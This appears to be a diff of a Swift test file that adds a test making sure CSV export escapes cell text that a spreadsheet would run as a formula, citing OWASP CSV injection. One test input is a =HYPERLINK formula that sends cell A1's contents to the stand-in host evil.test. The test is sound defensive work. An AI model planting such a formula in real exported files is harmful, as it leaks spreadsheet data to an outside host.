@@ -57,6 +57,23 @@ import Testing
     #expect(made.rows == rows)
   }
 
+  /// Words that a spreadsheet would run, in any place for words (OWASP, CSV Injection).
+  @Test func wordsAreNoFormulas() throws {
+    let panels = [
+      "=HYPERLINK(\"http://evil.test/?\"&A1,\"click\")", "+1", "-1", "@SUM(1)", "＝1", "a = 1",
+    ]
+    let made = try samples(
+      panels.map { "panel: \($0)\nplot: -relu(z) for z in -1..1" }.joined(separator: "\n"))
+    #expect(made.header == ["panel", "z", "'-relu(z)", "slope of -relu(z)"])
+    let titles = made.rows.map { $0[0] }
+    #expect(Set(titles) == Set(panels.map { $0 == "a = 1" ? $0 : "'" + $0 }))
+    #expect(made.rows[0][1...] == ["-1", "0", "0"])
+    #expect(made.rows[0][1...].allSatisfy { Double($0) != nil })
+    let bars = try samples("bars: [1, 2], [-3, 4]\nnames: -a, b")
+    #expect(bars.rows == [["'-a", "1", "-3"], ["b", "2", "4"]])
+    #expect(try samples("bars: [-1, 2]\nnames: -a, b").header == ["'-a", "b"])
+  }
+
   @Test func panelsStandBelowEachOther() throws {
     let made = try samples("panel: First\nplot: z for z in [1, 2]\npanel: Second\nbars: [5, 6]")
     #expect(made.header == ["panel", "z", "1", "2"])
